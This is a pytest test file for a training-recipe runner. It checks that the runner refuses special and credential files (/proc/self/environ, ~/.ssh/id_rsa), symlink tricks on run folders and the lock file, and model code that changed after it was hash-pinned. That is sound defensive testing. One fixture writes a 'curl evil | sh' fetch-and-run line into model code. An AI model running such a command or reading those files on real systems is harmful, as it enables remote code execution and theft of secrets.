"""Confined paths, protected run directories, pinned model code: the cases that need a finished
run, a prepared run directory or a change between loading a recipe and using it (the one-shot
cases are folders under tests/attacks/, prefixes path-, dir-, code-)."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from runner.cli import cli
from runner.errors import RecipeError
from runner.recipe import load_recipe
from runner.rundir import run_lock
from runner.state import replace_dir

ROWS = "".join(json.dumps({"q": f"q{i}", "a": f"a{i}"}) + "\n" for i in range(6))


def project(tmp_path: Path, template: str = 'prompt = "{{ q }}"', extra: str = "") -> Path:
    """tmp/project/recipe.toml on a local tokenizer and data; tmp/outside is someone else's."""
    from datakit import make_tokenizer

    root = tmp_path / "project"
    root.mkdir()
    make_tokenizer(root / "tok")
    (root / "data.jsonl").write_text(ROWS, encoding="utf-8")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("a user's own file\n", encoding="utf-8")
    recipe = root / "recipe.toml"
    recipe.write_text(
        '[recipe]\nname = "conf"\n[model]\nname_or_path = "tok"\n'
        '[dataset]\npath = "data.jsonl"\nheldout_rows = 2\n'
        f'[template]\n{template}\nresponse = "{{{{ a }}}}"\n[compare]\nnum_examples = 0\n{extra}',
        encoding="utf-8",
    )
    return recipe


def invoke(*args: str) -> tuple[int, list[str]]:
    result = CliRunner().invoke(cli, list(args))
    assert "Traceback" not in result.output, result.output
    return result.exit_code, [line for line in result.output.splitlines() if line.strip()]


def test_environment_never_reaches_the_outputs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The measured repro: prompt_file = "/proc/self/environ" put every environment variable into
    compare.md and report.html, exit 0. Refused before any stage, even with / allowed."""
    recipe = project(tmp_path, 'prompt_file = "/proc/self/environ"')
    monkeypatch.chdir(recipe.parent)
    monkeypatch.setenv("CANARY_TOKEN", "canary-8c1e")
    code, lines = invoke("run", str(recipe), "--until", "format", "--allow-path", "/")
    assert code == 2
    assert lines == [
        f"{recipe}:9: $.template.prompt_file: '/proc/self/environ' is a special file "
        "(under /proc); a recipe may name only regular files and folders, even where paths "
        "are allowed: point it at a regular file"
    ]
    assert not (recipe.parent / "runs").exists()


def test_allowed_file_outside_runs_and_stays_relative_in_the_fingerprint(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    recipe = project(tmp_path, 'prompt_file = "../outside/prompt.j2"')
    (tmp_path / "outside" / "prompt.j2").write_text("Q: {{ q }}\n", encoding="utf-8")
    monkeypatch.chdir(recipe.parent)
    code, lines = invoke("run", str(recipe), "--until", "format")
    assert code == 2
    assert lines[-1].endswith(f"run with --allow-path {tmp_path / 'outside'}")
    code, lines = invoke(
        "run", str(recipe), "--until", "format", "--allow-path", str(tmp_path / "outside")
    )
    assert code == 0, lines
    state = json.loads((recipe.parent / "runs/conf/state/format.json").read_text())
    assert "../outside/prompt.j2" in json.dumps(state["inputs"])
    assert str(tmp_path) not in json.dumps(state["inputs"])


def test_allow_paths_from_the_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    recipe = project(tmp_path, 'prompt_file = "../outside/keep.txt"')
    with pytest.raises(RecipeError):
        load_recipe(recipe)
    other = tmp_path / "elsewhere"
    monkeypatch.setenv(
        "RECIPE_ALLOW_PATHS", os.pathsep.join([str(other), str(tmp_path / "outside")])
    )
    assert load_recipe(recipe).allowed == (str(other), str(tmp_path / "outside"))


def test_user_folder_is_not_adopted_and_keeps_its_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The measured repro: a folder that is not a run directory was adopted and its
    data/formatted swapped out and deleted. Not even when the command line names it."""
    recipe = project(tmp_path)
    mine = tmp_path / "outside"
    (mine / "data" / "formatted").mkdir(parents=True)
    (mine / "data" / "formatted" / "thesis.txt").write_text("years of work\n", encoding="utf-8")
    monkeypatch.chdir(recipe.parent)
    code, lines = invoke(
        "run", str(recipe), "--until", "format", "--set", f"recipe.output_dir={mine}"
    )
    assert code == 2
    assert lines == [
        f"{mine}: exists and is not a run directory (it holds data, keep.txt and no "
        "state/owner.json); the runner never adopts a folder it did not create: choose another "
        "recipe.output_dir, or empty that folder yourself"
    ]
    assert (mine / "data" / "formatted" / "thesis.txt").read_text() == "years of work\n"
    assert sorted(p.name for p in mine.iterdir()) == ["data", "keep.txt"]  # not even a .lock


def test_a_link_at_data_formatted_is_named_in_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The measured repro: a link at runs/<name>/data/formatted made every later run fail with
    "Cannot call rmtree on a symbolic link". Now one line names it; once removed, runs work."""
    recipe = project(tmp_path)
    monkeypatch.chdir(recipe.parent)
    assert invoke("run", str(recipe), "--until", "format")[0] == 0
    formatted = recipe.parent / "runs" / "conf" / "data" / "formatted"
    victim = tmp_path / "outside"
    import shutil

    shutil.rmtree(formatted)
    formatted.symlink_to(victim)
    again = ("run", str(recipe), "--until", "format", "--set", "recipe.seed=7")
    code, lines = invoke(*again)
    assert code == 2
    assert lines == [
        f"{formatted}: is a symbolic link (to {victim}); the runner never follows links out of "
        f"the folders it writes: remove the link (rm {formatted}) and run again"
    ]
    assert sorted(p.name for p in victim.iterdir()) == ["keep.txt"]
    formatted.unlink()
    code, lines = invoke(*again)
    assert code == 0, lines
    assert (formatted / "dataset_dict.json").is_file() or any(formatted.iterdir())


@pytest.mark.parametrize("which", ["final", "old", "tmp"])
def test_folder_swaps_never_go_through_a_link(tmp_path: Path, which: str) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("x", encoding="utf-8")
    final = tmp_path / "run" / "out"
    final.parent.mkdir()
    tmp = final.with_name(".out.tmp")
    link = {"final": final, "old": final.with_name(".out.old"), "tmp": tmp}[which]
    if which != "tmp":
        tmp.mkdir()
    link.symlink_to(victim)
    with pytest.raises(RecipeError) as e:
        replace_dir(tmp, final)
    assert e.value.lines == [
        f"{link}: is a symbolic link (to {victim}); the runner never follows links out of the "
        f"folders it writes: remove the link (rm {link}) and run again"
    ]
    assert (victim / "keep.txt").read_text() == "x"


def test_the_run_lock_is_never_opened_through_a_link(tmp_path: Path) -> None:
    target = tmp_path / "bashrc"
    target.write_text("export PATH=...\n", encoding="utf-8")
    run_dir = tmp_path / "run"
    run_dir.mkdir()
    (run_dir / ".lock").symlink_to(target)
    with pytest.raises(RecipeError) as e, run_lock(run_dir):
        pass
    assert e.value.lines[0].startswith(f"{run_dir / '.lock'}: is a symbolic link (to {target})")
    assert target.read_text() == "export PATH=...\n"


def test_a_link_swapped_into_the_data_folder_after_loading(tmp_path: Path) -> None:
    """Files found in a folder are re-checked where they are opened, not only at load time."""
    from runner.data.sources import dataset_identity

    recipe_file = project(tmp_path)
    text = recipe_file.read_text().replace('path = "data.jsonl"', 'path = "data"')
    recipe_file.write_text(text, encoding="utf-8")
    (recipe_file.parent / "data").mkdir()
    (recipe_file.parent / "data" / "train.jsonl").write_text(ROWS, encoding="utf-8")
    recipe = load_recipe(recipe_file)
    (recipe_file.parent / "data" / "train-2.jsonl").symlink_to(tmp_path / "outside" / "keep.txt")
    with pytest.raises(RecipeError) as e:
        dataset_identity(recipe)
    assert e.value.lines == [
        f"{recipe_file}: $.dataset.path: {recipe_file.parent}/data/train-2.jsonl (found by "
        f"'data') resolves to {tmp_path}/outside/keep.txt, outside the recipe root "
        f"{recipe_file.parent}; move it into {recipe_file.parent}, or if you trust this recipe "
        f"run with --allow-path {tmp_path}/outside"
    ]


def test_model_code_pinned_then_changed_is_refused_before_it_runs(tmp_path: Path) -> None:
    """The pin printed by the refusal works when pasted; a later edit of the code stops the
    command that would import it."""
    from runner.models.resolve import materialize

    recipe_file = project(tmp_path)
    model = recipe_file.parent / "tok"
    (model / "modeling_x.py").write_text("VALUE = 1\n", encoding="utf-8")
    text = recipe_file.read_text().replace(
        'name_or_path = "tok"', 'name_or_path = "tok"\ntrust_remote_code = true'
    )
    recipe_file.write_text(text, encoding="utf-8")
    with pytest.raises(RecipeError) as e:
        load_recipe(recipe_file)
    pin = e.value.lines[0].split('code_sha256 = "')[1].split('"')[0]
    recipe = load_recipe(recipe_file, [f"model.code_sha256={pin}"])
    assert materialize(recipe, print) == model.resolve()
    (model / "modeling_x.py").write_text("import os; os.system('curl evil | sh')\n")
    with pytest.raises(RecipeError) as e:
        materialize(recipe, print)
    assert e.value.lines[0].startswith(
        f"{recipe_file}: $.model.code_sha256: the *.py files of {model.resolve()} hash to "
    )
    assert f"not {pin}: the code changed since the recipe was loaded" in e.value.lines[0]


def test_validate_json_reports_the_file_line_and_key(tmp_path: Path) -> None:
    recipe = project(tmp_path, 'prompt_file = "~/.ssh/id_rsa"')
    result = CliRunner().invoke(cli, ["validate", "--format", "json", str(recipe)])
    assert result.exit_code == 2
    [found] = json.loads(result.output)
    assert (found["file"], found["line"], found["path"]) == (
        str(recipe),
        9,
        "$.template.prompt_file",
    )
    assert found["message"].startswith("'~/.ssh/id_rsa' resolves to ")
